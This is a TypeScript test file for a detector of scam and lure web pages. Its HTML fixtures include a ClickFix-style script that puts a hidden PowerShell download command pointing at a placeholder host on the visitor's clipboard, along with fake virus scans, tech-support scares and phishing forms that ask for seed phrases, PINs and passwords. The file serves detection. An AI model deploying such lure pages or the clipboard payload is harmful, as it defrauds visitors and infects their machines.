// Lures, and honest pages that look a little like them.
import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { createPageParser } from '../../src/evidence/document/page_parser.ts'
import { findingOf } from './content_analysis_page.ts'

const LURES = [
  'paste_command_lure',
  'tech_support_scare',
  'fake_virus_scan',
  'coin_doubling',
  'asks_for_wallet_phrase',
  'asks_for_card_pin',
  'asks_for_identity_number',
  'asks_for_mailbox_password',
  'fake_browser_window',
]

function luresOf(html: string): string[] {
  const parser = createPageParser('https://page.example/', 'text/html; charset=utf-8')
  parser.write(Buffer.from(`<!doctype html>${html}`))
  const { signals = [] } = findingOf(parser.end(false))
  return signals.map(({ id }) => id).filter(id => LURES.includes(id))
}

const article = (text: string): string =>
  `<title>How it works</title><article><h1>How it works</h1><p>${text}</p>${'<p>Readers asked how such pages are made and how to tell them from honest ones, so here is what we learnt from a year of reports. </p>'.repeat(20)}</article>`

const cases: readonly (readonly [what: string, html: string, lures: readonly string[]])[] = [
  [
    'a check for robots that wants a command to be run',
    '<title>Verify</title><p>Verify you are human</p><ol><li>Press <b>Windows key</b> + <b>R</b><li>Press <b>CTRL</b> + <b>V</b><li>Press Enter</ol>',
    ['paste_command_lure'],
  ],
  [
    'the same in German, hidden until a click',
    '<title>Ich bin kein Robot</title><button>Weiter</button><div style="display:none">Drücken Sie Windows-Taste + R, dann Strg + V und Enter.</div>',
    ['paste_command_lure'],
  ],
  [
    'a repair that a script puts on the clipboard',
    '<title>Update failed</title><p>How to fix</p><button id="f">Copy fix</button><script>f.onclick=()=>navigator.clipboard.writeText("powershell -w hidden -c iwr x.example/a")</script>',
    ['paste_command_lure'],
  ],
  [
    'a terminal of a Mac',
    '<title>Cloudflare</title><p>Unusual web traffic. Open Terminal, paste the code and press Return.</p>',
    ['paste_command_lure'],
  ],
  [
    'an article about such lures',
    article('It says: press Windows + R, then Ctrl + V, to verify that you are human.'),
    [],
  ],
  [
    'an installer with a button that copies its command',
    '<title>Fastbuild, a build tool</title><h1>Install</h1><pre>curl -fsSL https://fastbuild.example/install | bash</pre><button>Copy</button><script>b.onclick=()=>navigator.clipboard.writeText("curl -fsSL https://fastbuild.example/install | bash")</script>',
    [],
  ],
  [
    'a warning that holds its visitors',
    '<title>Security alert</title><body onbeforeunload="return false"><h1>Trojan found</h1><p>Access to this PC has been blocked. Call Windows Support: +1 (888) 555-0134. Do not close this window.</p>',
    ['tech_support_scare'],
  ],
  [
    'a support page with a number',
    '<title>Help with viruses</title><h1>Virus removal</h1><p>We remove viruses. Call our support at +1 (888) 555-0134 on weekdays.</p>',
    [],
  ],
  [
    'an article about scares',
    article('A trojan was found, call Microsoft support at +1 888 555 0134, do not close this page.'),
    [],
  ],
  [
    'a scan in another’s name',
    '<title>McAfee</title><img alt="McAfee"><p>Threat detected: Worm. Threat detected: Trojan. Threat detected: Spyware.</p><button>Start clean-up</button>',
    ['fake_virus_scan'],
  ],
  [
    'coins that double',
    '<title>Event</title><p>Send 0.1 to 10 BTC to the address below and get twice as much back.</p><code>bc1qexampleexampleexampleexampleexample00</code>',
    ['coin_doubling'],
  ],
  [
    'a plea for donations',
    '<title>Donate</title><p>Support our work with bitcoin:</p><code>bc1qexampleexampleexampleexampleexample00</code>',
    [],
  ],
  [
    'a wallet that wants its words',
    '<title>Restore wallet</title><form><textarea name="phrase" placeholder="Enter your 12 words seed phrase"></textarea></form>',
    ['asks_for_wallet_phrase'],
  ],
  [
    'a field for each word',
    `<title>Recovery phrase</title><p>Import your wallet</p><form>${'<input type="text">'.repeat(12)}</form>`,
    ['asks_for_wallet_phrase'],
  ],
  [
    'a form for a server’s private key',
    '<title>Certificates</title><form><label>Private key</label><textarea name="private_key"></textarea></form>',
    [],
  ],
  ['advice on recovery phrases', article('Never enter your seed phrase anywhere but in your wallet.'), []],
  [
    'a card with its PIN',
    '<title>Confirm</title><form><input name="cardnumber"><input name="cvv"><input type="password" name="atm_pin"></form>',
    ['asks_for_card_pin'],
  ],
  [
    'a gift card with its PIN',
    '<title>Checkout</title><form><label>Gift card number</label><input name="giftcard_number"><input name="pin"></form>',
    [],
  ],
  [
    'a postal code of India beside a card',
    '<title>Checkout</title><form><input name="cardnumber"><input name="pincode" placeholder="PIN code"></form>',
    [],
  ],
  [
    'a log-in by PIN',
    '<title>Library</title><form><input name="library_card"><input type="password" name="pin"></form>',
    [],
  ],
  [
    'a person’s number beside a password',
    '<title>Confirm</title><form><input name="user"><input type="password" name="p"><input placeholder="SSN"></form>',
    ['asks_for_identity_number'],
  ],
  ['a person’s number alone', '<title>Tax office</title><form><input placeholder="SSN"></form>', []],
  [
    'a mailbox’s password',
    '<title>Confirm</title><form><input name="email"><input type="password" placeholder="Email password"></form>',
    ['asks_for_mailbox_password'],
  ],
  [
    'a change of address and password',
    '<title>Settings</title><form><input name="profile[email_password_update]"><input type="password" name="current"></form>',
    [],
  ],
  [
    'a drawn window',
    '<title>Vote</title><div class="title-bar">Sign in</div><div id="url-bar">https://accounts.google.com/signin</div><form><input type="password"></form>',
    ['fake_browser_window'],
  ],
  [
    'a log-in with a bar for its title',
    '<title>Acme</title><div class="title-bar">Acme</div><form><input name="user"><input type="password"></form>',
    [],
  ],
]

describe('lures', () => {
  for (const [what, html, lures] of cases) {
    it(`${lures.length === 0 ? 'are none in' : 'are seen in'} ${what}`, () => assert.deepEqual(luresOf(html), lures))
  }
})
